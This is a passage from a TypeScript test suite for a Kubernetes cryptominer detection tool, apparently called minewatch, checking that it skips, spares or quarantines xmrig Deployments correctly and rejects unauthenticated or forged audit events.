    const d = new ResponseDispatcher(config('enforce', 'Any', 'quarantine_workload', 'delete_pod'), { quarantine_workload: new QuarantineWorkloadAction({ client }) }, (m) => alerts.push(m), 'h');
    const m = (payload: Json, type?: string) => ({ rule: 'Any', priority: 'CRITICAL', source: 'k8s_audit', tags: [], output: 'x', outputFields: {}, time: 1n, hostname: 'h', event: auditEvent(payload, type) } as Match);
    d.onMatch(m(fixture('deployment-xmrig-forbidden')));
    d.onMatch(m(fixture('deployment-metal3d-xmrig'), 'admission'));
    assert.equal(alerts.length, 4, 'skips are recorded at once');
    assert.ok(alerts.every((a) => outcome(a) === 'skipped'));
    assert.match(String(alerts[0]!.outputFields['mw.response.reason']), /the API server answered 403 to this create request: no object was created/);
    assert.match(String(alerts[2]!.outputFields['mw.response.reason']), /an admission request: the object does not exist yet/);
    assert.equal(d.stats.byOutcome.skipped, 4);
    assert.deepEqual(made(), []);
  });

  test('agentK8s for `minewatch server` (no host sources): the cluster actions, no pod watcher, no complaint about the node name', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'mw-k8s-audit-resp-'));
    try {
      writeFileSync(join(dir, 'token'), s.token);
      const logged: unknown[] = [];
      const log = { error: (...a: unknown[]) => logged.push(a), warn: (...a: unknown[]) => logged.push(a), info: () => undefined, debug: () => undefined } as unknown as Parameters<typeof agentK8s>[1];
      const k = await agentK8s({ k8s: { api: { server: s.url, token_file: join(dir, 'token') } } }, log, new AllowList(), {}, { podContext: false });
      assert.equal(k.pods, undefined);
      assert.deepEqual(Object.keys(k.actions).sort(), ['delete_pod', 'isolate_pod', 'quarantine_workload', 'suggest_revoke']);
      assert.deepEqual(logged, []);
      assert.deepEqual(made(), []);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  test('end to end: `minewatch server` (web.token only) refuses /k8s-audit without it, spares a clean Deployment a forged event names, scales the real miner to 0, and stores both outcomes', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'mw-k8s-audit-resp-e2e-'));
    let server: AgentRun | undefined;
    const offs = [
      s.on('GET', '/apis/apps/v1/namespaces/default/deployments/xmrig', (_r, res) => sendJson(res, 200, xmrigDeployment())),
      s.on('GET', '/apis/apps/v1/namespaces/prod/deployments/payments-api', (_r, res) => sendJson(res, 200, paymentsDeployment())),
      s.on('PATCH', '/apis/apps/v1/namespaces/default/deployments/xmrig', (_r, res) => sendJson(res, 200, xmrigDeployment(DEPLOY_UID, { replicas: 0 }))),
    ];
    const failAfter = setTimeout(() => server?.kill(), 60_000);
    try {
      writeFileSync(join(dir, 'token'), `${s.token}\n`);
      const webToken = randomToken(16);
      const cfg = writeConfig(join(dir, 'server.yaml'), {
        outputs: { stdout: { enabled: false } },
        web: { token: webToken },
        k8s: { api: { server: s.url, token_file: join(dir, 'token') }, audit: { enabled: true } },
        response: { mode: 'enforce', actions: [{ rules: ['K8s Workload With Miner Image'], do: ['quarantine_workload'] }] },
      });
      server = new AgentRun(cfg, { command: 'server' });
      const base = await server.webUrl();
      const auditPost = (body: unknown, token?: string) => fetch(`${base}/k8s-audit`, {
        method: 'POST', headers: { 'content-type': 'application/json', ...(token ? { authorization: `Bearer ${token}` } : {}) }, body: JSON.stringify(body),
      });
      const outcomeAlert = async (object: string): Promise<Json | undefined> => {
        for (let i = 0; i < 200; i++) {
          const r = await fetch(`${base}/api/alerts?rule=${encodeURIComponent('minewatch response: quarantine_workload')}`, { headers: { authorization: `Bearer ${webToken}` } });
          const hit = ((await r.json()) as { alerts: Json[] }).alerts.find((a) => String(a.output).includes(object));
          if (hit) return hit;
          await new Promise((r) => setTimeout(r, 50));
        }
        return undefined;
      };
      // No k8s.audit.token: the route takes web.token, and nothing without it.
      assert.equal((await auditPost(forgedPaymentsEvent())).status, 401);
      assert.equal((await auditPost(forgedPaymentsEvent(), webToken)).status, 200);
      const spared = await outcomeAlert('prod/payments-api');
      assert.ok(spared, `the outcome of the forged event is stored; server log: ${JSON.stringify(server.logs.slice(-10))}`);
      assert.match(spared.output, /^quarantine_workload of Deployment prod\/payments-api spared \(live object no longer matches: rule 'K8s Workload With Miner Image' does not match Deployment prod\/payments-api as it is now \(images registry\.example\/payments-api:4\.2/);
      assert.deepEqual(made().map(requestLine), ['GET /apis/apps/v1/namespaces/prod/deployments/payments-api'], 'read, never patched');
      from = s.requests.length;

      assert.equal((await auditPost(fixture('deployment-metal3d-xmrig'), webToken)).status, 200);
      // Bounded, so a server that never acts fails with its log rather than hanging the suite.
      let timer: NodeJS.Timeout | undefined;
      const patch = await Promise.race([
        s.waitFor((r) => r.method === 'PATCH', from),
        new Promise<never>((_r, reject) => {
          timer = setTimeout(() => reject(new Error(`no PATCH within 20 s; requests: ${lines().join(', ')}; server log: ${JSON.stringify(server!.logs.slice(-20))} ${server!.rawErr.join('\n')}`)), 20_000);
        }),
      ]).finally(() => clearTimeout(timer));
      assert.equal(patch.path, '/apis/apps/v1/namespaces/default/deployments/xmrig');
      assert.deepEqual((patch.body as { spec: unknown }).spec, { replicas: 0 });
      assert.equal(patch.authorization, `Bearer ${s.token}`, 'the token from k8s.api.token_file');
      assert.deepEqual(made().map(requestLine), ['GET /apis/apps/v1/namespaces/default/deployments/xmrig', 'PATCH /apis/apps/v1/namespaces/default/deployments/xmrig'], 'no pod watch on the server');
      const alert = await outcomeAlert('default/xmrig');
      assert.ok(alert, 'the outcome alert is in the server store');
      assert.match(alert.output, /^quarantine_workload of Deployment default\/xmrig done \(scaled Deployment default\/xmrig from 1 to 0 replicas\)/);
      await server.stop();
    } finally {
      clearTimeout(failAfter);
      offs.forEach((f) => f());
      server?.kill();
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
